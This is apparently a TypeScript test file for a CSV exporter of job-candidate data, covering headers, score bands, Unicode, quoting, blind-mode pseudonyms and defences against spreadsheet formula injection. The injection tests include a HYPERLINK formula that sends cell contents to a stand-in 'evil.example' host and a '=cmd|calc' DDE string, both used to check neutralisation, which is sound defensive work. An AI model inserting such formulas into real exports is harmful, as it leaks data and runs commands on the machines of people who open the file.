import { describe, expect, it } from 'vitest';
import Papa from 'papaparse';
import { CSV_BOM, neutraliseFormula, toCsv, type ExportInput } from '@/lib/files';
import { CandidateSchema } from '@/lib/schema/candidate';
import { pseudonym } from '@/lib/people/blind';
import { BANDS, bandOf } from '@/lib/scoring/bands';
import { exportInput, jonas, jonasEntry, mara, maraEntry, note } from './fixtures';

/** The CSV's rows as arrays of strings, BOM stripped, as a spreadsheet would read them. */
function rowsOf(csv: string): string[][] {
  expect(csv.startsWith(CSV_BOM)).toBe(true);
  const parsed = Papa.parse<string[]>(csv.slice(CSV_BOM.length), { header: false });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

function table(input: ExportInput): Record<string, string>[] {
  const [header, ...rows] = rowsOf(toCsv(input));
  return rows.map((row) => Object.fromEntries(header!.map((name, index) => [name, row[index]!])));
}

const HEADER = [
  'Name',
  'Profile URLs',
  'Public email',
  'Headline',
  'Score',
  'Band',
  'Must-haves met',
  'Go (must)',
  'Kubernetes (plus)',
  'Status',
  'Tags',
  'Latest notes',
];

describe('toCsv', () => {
  it('writes a header and one row per candidate, in order, with requirement columns', () => {
    const [header, ...rows] = rowsOf(toCsv(exportInput()));
    expect(header).toEqual(HEADER);
    expect(rows).toEqual([
      [
        'Mara Testwood',
        'https://github.com/maratest | https://stackoverflow.com/users/4242/mara',
        'mara@example.org',
        'Distributed systems in Go',
        '71',
        bandOf(71).label,
        'yes',
        '64.3',
        '0',
        'shortlisted',
        'go, remote',
        'Call went well / Asked about on-call',
      ],
      ['jbeispiel', 'https://gitlab.com/jbeispiel', '', 'Platform engineer', '', '', '', '', '', '', '', ''],
    ]);
  });

  it('uses CRLF line endings and a UTF-8 byte order mark', () => {
    const csv = toCsv(exportInput());
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(csv.split('\r\n')).toHaveLength(3);
    expect(csv.replace(/\r\n/g, '')).not.toMatch(/[\r\n]/);
  });

  it('puts each total’s band in the Band column, next to the score, and leaves it empty without a score', () => {
    const score = maraEntry().score!;
    const at = (total: number) => maraEntry({ score: { ...score, total, result: { ...score.result, total } } });
    const rows = table(exportInput({ candidates: [...BANDS.map((band) => at(band.min)), jonasEntry()] }));
    expect(rows.map((row) => [row.Score, row.Band])).toEqual([...BANDS.map((band) => [String(band.min), band.label]), ['', '']]);
  });

  it('says "no" when a must-have is missing', () => {
    const score = maraEntry().score!;
    const missing = { ...score, result: { ...score.result, mustHavesMissing: ['Go'] } };
    expect(table(exportInput({ candidates: [maraEntry({ score: missing })] }))[0]!['Must-haves met']).toBe('no');
  });

  it('keeps only the newest 3 notes, each capped at 500 characters', () => {
    const notes = [note(mara.key, 'a', 'x'.repeat(2_000)), note(mara.key, 'b', 'second'), note(mara.key, 'c', 'third'), note(mara.key, 'd', 'fourth')];
    const cell = table(exportInput({ candidates: [maraEntry({ notes })] }))[0]!['Latest notes']!;
    const [first, ...rest] = cell.split(' / ');
    expect(first).toHaveLength(500);
    expect(first!.endsWith('… (truncated)')).toBe(true);
    expect(rest).toEqual(['second', 'third']);
  });

  it('leaves requirement cells empty when the score has no entry for a requirement (stale score)', () => {
    const score = maraEntry().score!;
    const stale = { ...score, result: { ...score.result, requirements: score.result.requirements.slice(0, 1) } };
    const [row] = table(exportInput({ candidates: [maraEntry({ score: stale })] }));
    expect(row).toMatchObject({ 'Go (must)': '64.3', 'Kubernetes (plus)': '' });
  });

  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"click")'],
    ['+1'],
    ['-2+3'],
    ['@SUM(A1:A9)'],
    ['\t=1+1'],
    ['\r=1+1'],
    ['＝1+1'],
  ])('neutralises %j in names, notes, tags, headline and status', (payload) => {
    const candidate = CandidateSchema.parse({ ...mara, name: payload, profile: { ...mara.profile, bio: payload } });
    const [row] = table(exportInput({ candidates: [maraEntry({ candidate, notes: [note(mara.key, 'n', payload)], tags: [payload, 'go'], status: payload })] }));
    expect(row!.Name).toBe(`'${payload}`);
    expect(row!.Headline).toBe(`'${payload}`);
    expect(row!['Latest notes']).toBe(`'${payload}`);
    expect(row!.Tags).toBe(`'${payload}, go`);
    expect(row!.Status).toBe(`'${payload}`);
  });

  it('neutralises formula-like requirement labels in the header', () => {
    const input = exportInput();
    const requirements = [{ ...input.posting.requirements[0]!, label: '=cmd|calc' }];
    const [header] = rowsOf(toCsv({ ...input, posting: { ...input.posting, requirements } }));
    expect(header).toContain("'=cmd|calc (must)");
  });

  it('keeps numbers as numbers and leaves harmless text alone', () => {
    expect(neutraliseFormula(0)).toBe(0);
    expect(neutraliseFormula(71)).toBe(71);
    expect(neutraliseFormula('Mara - Go')).toBe('Mara - Go');
    expect(neutraliseFormula('')).toBe('');
    const csv = toCsv(exportInput());
    expect(csv).toContain(`,71,${bandOf(71).label},yes,64.3,0,`);
  });

  it('keeps Unicode intact: emoji, Arabic, combining accents', () => {
    const name = 'Zoë 👩🏽‍💻 مريم';
    const combining = 'Jose\u0301 Nin\u0303o';
    const candidate = CandidateSchema.parse({ ...mara, name, profile: { ...mara.profile, bio: 'مطوّرة خلفية 🚀' } });
    const [row] = table(exportInput({ candidates: [maraEntry({ candidate, tags: [combining], notes: [note(mara.key, 'n', 'ملاحظة: ممتاز ✅')] })] }));
    expect(row).toMatchObject({ Name: name, Headline: 'مطوّرة خلفية 🚀', Tags: combining, 'Latest notes': 'ملاحظة: ممتاز ✅' });
    expect(row!.Tags!.normalize('NFD')).toBe(combining);
    expect(row!.Tags).not.toBe(combining.normalize('NFC'));
  });

  it('quotes cells with quotes, commas and newlines so they read back unchanged', () => {
    const text = 'Said "yes, definitely",\nthen: start in March;\r\nteam, "platform"';
    const [row] = table(exportInput({ candidates: [maraEntry({ notes: [note(mara.key, 'n', text)], tags: ['a,b', 'c "d"'] })] }));
    expect(row!['Latest notes']).toBe(text);
    expect(row!.Tags).toBe('a,b, c "d"');
  });

  it('blind mode: the panel’s pseudonym instead of names; no login, profile URL or email', () => {
    const csv = toCsv(exportInput({ blind: true }));
    expect(csv).not.toContain('Mara Testwood');
    expect(csv).not.toContain('mara@example.org');
    expect(csv).not.toContain('maratest');
    expect(csv).not.toContain('jbeispiel');
    const rows = table(exportInput({ blind: true }));
    expect(rows.map((row) => row.Name)).toEqual([pseudonym(mara.key), pseudonym(jonas.key)]);
    expect(rows[0]!.Name).toMatch(/^Candidate [0-9A-Z]{6}$/);
    expect(rows.map((row) => row['Public email'])).toEqual(['', '']);
    expect(rows.map((row) => row['Profile URLs'])).toEqual(['', '']);
    expect(rows[0]!.Score).toBe(String(maraEntry().score!.total));
  });

  it('writes only the header for an empty list', () => {
    expect(rowsOf(toCsv(exportInput({ candidates: [] })))).toEqual([HEADER]);
  });

  it('finds the public email on a linked GitHub profile too', () => {
    const { profile, linked } = mara;
    const jonasMain = jonasEntry().candidate;
    const candidate = { ...jonasMain, linked: [{ key: 'github:maratest', via: 'manual' as const, linkedAt: profile.capturedAt, profile }, ...linked] };
    expect(table(exportInput({ candidates: [jonasEntry({ candidate })] }))[0]!['Public email']).toBe('mara@example.org');
  });
});
